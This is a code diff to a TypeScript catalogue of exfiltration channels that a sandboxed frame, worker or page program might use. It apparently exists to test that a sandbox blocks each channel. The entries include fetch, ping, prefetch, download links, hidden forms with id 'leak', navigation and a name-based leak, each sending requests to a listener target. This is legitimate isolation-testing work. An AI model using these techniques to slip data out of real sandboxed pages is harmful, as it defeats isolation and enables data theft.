@@ -1,7 +1,9 @@
 /**
- * Ways out that a program may try. Each is one function, run as it stands: in a worker of the frame, in the frame's document
- * (as page programs will be), and in an unprotected page, where every one of them has to succeed.
+ * Ways out that a program may try. Each is one function, run as it stands: in a worker of the frame, in the frame's document,
+ * in a page program, and in an unprotected page, where every one of them has to succeed.
  */
+import { waysRound } from './ways-round.ts';
+
 export interface Target {
 	/** Where the listener hears requests, with the attack's own path. */
 	url: string;
@@ -11,6 +13,9 @@ export interface Target {
 	/** Where the listener hears datagrams. */
 	stun: string;
 }
+
+/** `page`: from a page program, which can do what a document can. */
+export type From = 'worker' | 'document' | 'page';
 
 export interface Attack {
 	id: string;
@@ -33,6 +38,7 @@ const entersFromDocument: Out = { sign: 'entry', from: DOCUMENT };
 const entersAnywhere: Out = { sign: 'entry', from: BOTH };
 
 export const attacks: readonly Attack[] = [
+	...waysRound,
 	{ id: 'fetch', ...asksAnywhere, run: (t) => fetch(t.url, { mode: 'no-cors' }) },
 	{
 		id: 'fetch-keepalive',
@@ -72,6 +78,8 @@ export const attacks: readonly Attack[] = [
 	{
 		id: 'ping',
 		...asks,
+		// In a document without an address of its own, a part of it is another page.
+		leaves: true,
 		run: (t) => {
 			const link = document.createElement('a');
 			link.href = '#here';
@@ -145,6 +153,8 @@ export const attacks: readonly Attack[] = [
 	{
 		id: 'prefetch',
 		...asks,
+		// Alone: Firefox waits until the page has nothing else to do.
+		leaves: true,
 		run: (t) => document.head.insertAdjacentHTML('beforeend', `<link rel="prefetch" href="${t.url}">`)
 	},
 	{
@@ -186,6 +196,7 @@ export const attacks: readonly Attack[] = [
 	{
 		id: 'download',
 		...asks,
+		leaves: true,
 		run: (t) => {
 			const link = document.createElement('a');
 			link.href = t.url;
@@ -213,6 +224,15 @@ export const attacks: readonly Attack[] = [
 		run: (t) => {
 			document.body.insertAdjacentHTML('beforeend', `<form id="leak" action="${t.url}"></form>`);
 			(document.getElementById('leak') as HTMLFormElement).submit();
+		}
+	},
+	{
+		id: 'form-request',
+		...asks,
+		leaves: true,
+		run: (t) => {
+			document.body.insertAdjacentHTML('beforeend', `<form id="leak" action="${t.url}"></form>`);
+			(document.getElementById('leak') as HTMLFormElement).requestSubmit();
 		}
 	},
 	{ id: 'navigate-self', ...asks, leaves: true, run: (t) => void (location.href = t.url) },
@@ -281,6 +301,7 @@ export const attacks: readonly Attack[] = [
 		id: 'download-name',
 		sign: 'name',
 		from: DOCUMENT,
+		leaves: true,
 		run: (t) => {
 			const link = document.createElement('a');
 			link.href = `http://${t.name}/`;
